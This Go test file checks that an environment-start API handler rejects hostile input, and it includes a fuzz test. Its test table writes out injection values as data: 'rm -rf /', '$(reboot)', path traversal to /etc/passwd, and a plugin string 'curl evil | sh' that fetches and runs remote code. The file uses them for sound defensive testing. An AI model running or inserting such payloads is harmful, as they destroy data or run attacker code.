package main

import (
	"context"
	"encoding/json"
	"log/slog"
	"strings"
	"testing"

	"github.com/aws/aws-lambda-go/events"

	"github.com/envjupyter/envjupyter/shared/instance"
)

// request builds an API Gateway event for a route, from the demo customer.
func request(route, envID, body string) events.APIGatewayV2HTTPRequest {
	return events.APIGatewayV2HTTPRequest{
		RouteKey:       route,
		PathParameters: map[string]string{"id": envID},
		Body:           body,
		RequestContext: events.APIGatewayV2HTTPRequestContext{
			Authorizer: &events.APIGatewayV2HTTPRequestContextAuthorizerDescription{
				JWT: &events.APIGatewayV2HTTPRequestContextAuthorizerJWTDescription{
					Claims: map[string]string{"customer_id": "cust-demo", "sub": "user-1"},
				},
			},
		},
	}
}

// Hostile input gets a 4xx with a stable code, before anything reaches a
// table or a queue (the store and the queue fail the test if called).
func TestHostileInput(t *testing.T) {
	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
	tests := []struct {
		name, envID, body string
		status            int
		code              string
	}{
		{"shell metacharacters in the id", "env;rm -rf /", "", 400, "invalid_environment_id"},
		{"command substitution in the id", "$(reboot)", "", 400, "invalid_environment_id"},
		{"path traversal", "../../etc/passwd", "", 400, "invalid_environment_id"},
		{"encoded traversal", "..%2F..%2Fetc", "", 400, "invalid_environment_id"},
		{"huge id", strings.Repeat("a", 10000), "", 400, "invalid_environment_id"},
		{"unicode lookalike", "env-dеmo", "", 400, "invalid_environment_id"}, // Cyrillic е
		{"right-to-left override", "env\u202edemo", "", 400, "invalid_environment_id"},
		{"NUL byte", "env\x00demo", "", 400, "invalid_environment_id"},
		{"newline (log forging)", "env\nlevel=ERROR", "", 400, "invalid_environment_id"},
		{"deeply nested JSON", "env-demo", deep, 413, "body_too_large"},
		{"nesting within the size limit", "env-demo", strings.Repeat("[", 5000) + strings.Repeat("]", 5000), 400, "invalid_body"},
		{"duplicate keys with a bad type", "env-demo", `{"plugins":["a"],"plugins":{"x":1}}`, 400, "invalid_body"},
		{"plugin with shell metacharacters", "env-demo", `{"plugins":["x; curl evil | sh"]}`, 400, "plugin_not_allowed"},
		{"plugin with pip options", "env-demo", `{"plugins":["--index-url=http://evil/ x"]}`, 400, "plugin_not_allowed"},
		{"huge plugin list", "env-demo", `{"plugins":[` + strings.Repeat(`"a",`, 3000) + `"a"]}`, 400, "plugin_not_allowed"},
		{"array body", "env-demo", `[]`, 400, "invalid_body"},
		{"null plugins type", "env-demo", `{"plugins":"jupyterlab-git"}`, 400, "invalid_body"},
		{"port as string", "env-demo", `{"internal_port":"8888; x"}`, 400, "invalid_body"},
		{"privileged internal port", "env-demo", `{"internal_port":22}`, 400, "invalid_internal_port"},
		{"huge number", "env-demo", `{"internal_port":1e400}`, 400, "invalid_body"},
		{"invalid UTF-8", "env-demo", "{\"plugins\":[\"\xff\xfe\"]}", 400, "plugin_not_allowed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := &handler{control: newService(t), customerClaim: "customer_id", log: slog.New(slog.DiscardHandler)}
			resp, err := h.handle(context.Background(), request(routeStart, tt.envID, tt.body))
			if err != nil {
				t.Fatal(err)
			}
			var body apiError
			_ = json.Unmarshal([]byte(resp.Body), &body)
			if resp.StatusCode != tt.status || body.Error.Code != tt.code || body.Error.Message == "" {
				t.Fatalf("%d %s, want %d %s", resp.StatusCode, resp.Body, tt.status, tt.code)
			}
			if strings.Contains(resp.Body, "rm -rf") || strings.Contains(resp.Body, "evil") {
				t.Errorf("the error echoes the input: %s", resp.Body)
			}
		})
	}
}

// FuzzStartRequest: whatever the id and body, the API answers with a
// well-formed response, never a 5xx and never a panic, and touches nothing
// unless the input is valid (the store fails the test if it is called).
func FuzzStartRequest(f *testing.F) {
	for _, seed := range []struct{ id, body string }{
		{"env-demo", ""}, {"env-demo", "{}"}, {"env-demo", `{"plugins":["jupyterlab-git"]}`},
		{"env-demo", `{"internal_port":9999}`}, {"x", `{"password":"p"}`}, {"../x", `{}}`},
		{"env-demo", `{"plugins":[1]}`}, {"", "null"},
	} {
		f.Add(seed.id, seed.body)
	}
	f.Fuzz(func(t *testing.T, id, body string) {
		h := &handler{control: newUnusedController(t), customerClaim: "customer_id", log: slog.New(slog.DiscardHandler)}
		// Only input that passes every check reaches the controller, which
		// then fails the test: so restrict to what must be refused.
		var sb startBody
		parses := strings.TrimSpace(body) == "" || json.Unmarshal([]byte(body), &sb) == nil
		if parses && validID(id) && len(body) <= maxBodyBytes {
			return // a valid request would reach the controller: the end-to-end tests cover it
		}
		resp, err := h.handle(context.Background(), request(routeStart, id, body))
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode < 400 || resp.StatusCode >= 500 {
			t.Fatalf("status %d for id %q body %q", resp.StatusCode, id, body)
		}
		var e apiError
		if err := json.Unmarshal([]byte(resp.Body), &e); err != nil || e.Error.Code == "" {
			t.Fatalf("malformed error body %q", resp.Body)
		}
	})
}

func validID(id string) bool { return instance.ValidEnvironmentID(id) }
